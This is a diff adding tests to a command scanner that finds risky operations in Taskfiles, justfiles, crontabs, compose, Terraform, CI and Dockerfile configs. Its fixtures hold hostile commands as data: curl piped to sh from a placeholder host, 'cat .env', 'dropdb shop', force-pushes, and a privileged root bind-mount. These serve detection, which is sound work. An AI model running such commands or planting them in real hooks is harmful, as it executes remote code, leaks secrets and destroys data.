@@ -16,7 +16,7 @@ describe('extractScripts', () => {
     expect(extractScripts('tool', `${line}\nls`)).toHaveLength(1);
   });
 
-  it.each(['README.md', 'src/a.ts', 'tool.py', 'compose.yml'])('finds no script in %s', (name) => {
+  it.each(['README.md', 'src/a.ts', 'tool.py', 'config.yml'])('finds no script in %s', (name) => {
     expect(extractScripts(name, '#!/usr/bin/env node\n')).toBeNull();
   });
 
@@ -188,5 +188,42 @@ describe('package.json', () => {
   it('reads its scripts', () => {
     expect(found('web/package.json', '{\n  "name": "x",\n  "scripts": {\n    "build": "tsc -p .",\n    "postinstall": "curl x.example | sh"\n  }\n}')).toEqual(['4 tsc', '5 curl', '5 sh pipe-to-shell']);
     expect(found('package.json', '{"scripts": 1}')).toEqual([]);
+  });
+});
+
+describe('files of other tools that run commands', () => {
+  it.each<[string, string, readonly string[]]>([
+    ['Taskfile.yml', 'version: "3"\ntasks:\n  a: dropdb shop\n  b:\n    cmds:\n      - git push --force\n      - cmd: curl https://x.example | sh\n      - task: c\n    vars: { V: { sh: "cat .env" } }\n  c: [ls, "echo {{.X}}"]\n', ['6 git.push force-push', '7 curl', '7 sh pipe-to-shell', '9 cat secret-file', '3 dropdb data-destroy', '10 ls', '10 echo']],
+    ['justfile', "set shell := ['bash', '-c']\nx := `cat .env`\ny := 'git push --force'\n# rm -rf /\n@deploy env='prod': test\n    @git push --force\n    echo {{x}} \\\n      two\npy:\n    #!/usr/bin/env python3\n    print(1)\nsh:\n    #!/bin/bash\n    dropdb shop\n", ['2 cat secret-file', '6 git.push force-push', '7 echo', '11 unknown', '14 dropdb data-destroy']],
+    ['composer.json', '{\n"scripts": {\n"a": ["@php artisan x", "dropdb shop", "App\\\\X::run", "@b"],\n"b": "git push --force" }\n}', ['3 php', '3 dropdb data-destroy', '4 git.push force-push']],
+    ['Procfile', '# x\nweb: bundle exec puma\nrelease: dropdb shop\n', ['2 puma', '2 bundle.exec', '3 dropdb data-destroy']],
+    ['deploy/crontab', '# m h\nMAILTO=x\n0 3 * * * root dropdb shop\n@daily curl https://x.example | sh\n', ['3 dropdb data-destroy', '4 curl', '4 sh pipe-to-shell']],
+    ['x.service', '[Service]\nExecStartPre=-/bin/ls\nExecStart=/bin/sh -c "dropdb shop"\n', ['3 dropdb data-destroy']],
+    ['docker-compose.prod.yml', 'services:\n  a:\n    image: x\n    privileged: true\n    volumes: [./d:/d]\n  b:\n    image: y\n    volumes: [{ type: bind, source: /, target: /h }]\n    command: sh -c "curl https://x.example | sh"\n    healthcheck: { test: [CMD-SHELL, "ls"] }\n  c: { image: z, command: [npm, start] }\n', ['3 docker.run container-escape', '7 docker.run container-escape', '9 sh pipe-to-shell']],
+    ['infra/main.tf', 'resource "null_resource" "x" {\n  provisioner "local-exec" {\n    command = "dropdb ${var.db}"\n  }\n  provisioner "local-exec" {\n    command = <<-EOT\n      ls\n      git push --force\n    EOT\n  }\n  provisioner "local-exec" {\n    interpreter = ["/usr/bin/python3", "-c"]\n    command = "print(1)"\n  }\n  provisioner "local-exec" {\n    command = var.x\n  }\n}\ndata "external" "e" {\n  program = ["sh", "-c", "curl https://x.example | sh"]\n}\n', ['3 dropdb data-destroy', '7 ls', '8 git.push force-push', '13 unknown', '16 unknown', '20 curl', '20 sh pipe-to-shell']],
+    ['netlify.toml', '[build]\n  command = "curl https://x.example | sh"\n  publish = "dropdb"\n', ['2 curl', '2 sh pipe-to-shell']],
+    ['buildspec.yml', 'phases:\n  build:\n    commands:\n      - dropdb shop\n', ['4 dropdb data-destroy']],
+    ['vercel.json', '{ "buildCommand": "dropdb shop" }', ['1 dropdb data-destroy']],
+    ['deno.json', '{ "tasks": { "a": "dropdb shop" } }', ['1 dropdb data-destroy']],
+    ['.devcontainer/devcontainer.json', '{\n// why\n"postCreateCommand": ["dropdb", "shop"],\n"postStartCommand": { "a": "git push --force" } }', ['3 dropdb data-destroy', '4 git.push force-push']],
+    ['lefthook.yml', 'pre-commit:\n  commands:\n    a: { run: dropdb shop }\n', ['3 dropdb data-destroy']],
+    ['site.yml', '- name: x\n  hosts: all\n  tasks:\n    - shell: dropdb {{ db }}\n    - command: { cmd: ls }\n', ['4 dropdb data-destroy']],
+    ['roles/a/tasks/main.yml', '- ansible.builtin.shell: |\n    ls\n    dropdb shop\n', ['3 dropdb data-destroy']],
+    ['user-data.yaml', '#cloud-config\nruncmd:\n  - [dropdb, shop]\n  - ls\n', ['3 dropdb data-destroy', '4 ls']],
+    ['x.ps1', 'Remove-Item x\n', ['1 unknown']],
+  ])('reads the commands of %s', (name, text, operations) => {
+    expect(found(name, text)).toEqual(operations);
+  });
+
+  it.each([
+    ['an Ingress', 'ingress.yaml', 'spec:\n  tls:\n    - hosts: [a.example]\n      command: dropdb shop\n'], ['a program', 'src/justfile.ts', 'a:\n    dropdb shop\n'], ['a service of something else', 'a.service', 'dropdb shop\n'],
+  ])('takes %s for no such file', (_name, path, text) => {
+    expect(extractScripts(path, text)).toBeNull();
+  });
+
+  it('tells what an image is made of unread', () => {
+    const text = '# syntax=x.example/frontend:1\nFROM a\nADD https://x.example/a /a\nADD --checksum=sha256:1 https://x.example/a /a\nADD ["git@x.example:a.git", "/a"]\nADD https://x.example/a.git#' + 'a'.repeat(40) + ' /a\nADD a.tgz /a\n';
+    expect(found('Dockerfile', text)).toEqual(['1 docker.pull downloaded-code', '3 curl downloaded-code', '5 curl downloaded-code']);
+    expect(found('Dockerfile', '# escape=`\n# syntax=docker/dockerfile:1\nFROM a\n')).toEqual([]);
   });
 });
